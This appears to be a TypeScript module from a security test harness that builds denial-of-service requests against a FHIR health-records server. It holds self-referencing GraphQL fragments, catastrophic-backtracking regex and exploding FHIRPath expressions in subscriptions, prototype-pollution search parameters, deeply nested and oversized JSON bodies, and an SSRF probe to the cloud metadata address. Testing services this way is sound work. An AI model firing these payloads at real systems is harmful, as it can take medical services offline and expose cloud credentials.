// SPDX-License-Identifier: Apache-2.0
import { JSON_TYPE, times, type Headers } from './attacked-service.ts';

type Try = readonly [path: string, headers: Headers, body?: string];

/** Work that would never end, or take seconds for each letter more: in queries, conditions, patches and searches. */
export function endless(own: Headers): readonly Try[] {
  const slow = `'${'a'.repeat(60)}!'.matches('^(a+)+$')`;
  const queries = [
    '{ PatientList { ...A } } fragment A on Patient { ...A }',
    '{ PatientList { ...A } } fragment A on Patient { id ...B } fragment B on Patient { id ...A }',
    `{ PatientList { ...F0 } } ${times(400, (at) => `fragment F${String(at)} on Patient { ...F${String((at + 1) % 400)} }`).join(' ')}`,
  ];
  const watching = (extension: object[]): object => ({
    resourceType: 'Subscription',
    status: 'active',
    reason: 'x',
    criteria: 'Patient',
    channel: { type: 'rest-hook', endpoint: 'http://169.254.169.254/' },
    extension,
  });
  const condition = 'https://medplum.com/fhir/StructureDefinition/fhir-path-criteria-expression';
  const searches = [
    ...['constructor=1', '__proto__=1', '_sort=toString', '_include=*', '_revinclude=__proto__:x', '_has:a:b:c=1'],
    ...['birthdate=275760-09-13', 'birthdate=-1', 'birthdate=0000-00-00', '_filter=x', '_count=-1', '_offset=-1'],
  ];
  const deep = `{"resourceType":"Patient","extension":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
  const asked = { ...JSON_TYPE, ...own };
  return [
    ...queries.map((query) => ['/fhir/R4/$graphql', asked, JSON.stringify({ query })] as const),
    ...[
      slow,
      "name.replaceMatches('(a+)+', 'b')",
      'name.select($this.combine($this)).select($this.combine($this))',
    ].map(
      (valueString) =>
        ['/fhir/R4/Subscription', asked, JSON.stringify(watching([{ url: condition, valueString }]))] as const,
    ),
    ...['/fhir/R4/$graphql/', '/fhir/R4//$graphql'].map(
      (path) => [path, asked, JSON.stringify({ query: queries[0] })] as const,
    ),
    ...oversized(asked),
    ...searches.map((search) => [`/fhir/R4/Patient?${search}`, own] as const),
    ...['/fhir/R4', '/fhir/R4/Patient', '/fhir/R4/$graphql', '/cds-services/manual-therapy-charge'].map(
      (path) => [path, asked, deep] as const,
    ),
  ];
}

/** Bodies that are small to send and long to read. */
function oversized(asked: Headers): readonly Try[] {
  const queriesInBatch = times(1000, () => ({
    request: { method: 'POST', url: '$graphql' },
    resource: { query: '{ PatientList { id } }' },
  }));
  return [
    ['/fhir/R4', asked, JSON.stringify({ resourceType: 'Bundle', type: 'batch', entry: queriesInBatch })],
    ['/fhir/R4/Patient', asked, `{"resourceType":"Patient","name":[${'{},'.repeat(1_000_000)}{}]}`],
    ['/fhir/R4/Patient', asked, `{"resourceType":"Patient",${times(300_000, (at) => `"k${String(at)}":1`).join(',')}}`],
  ];
}
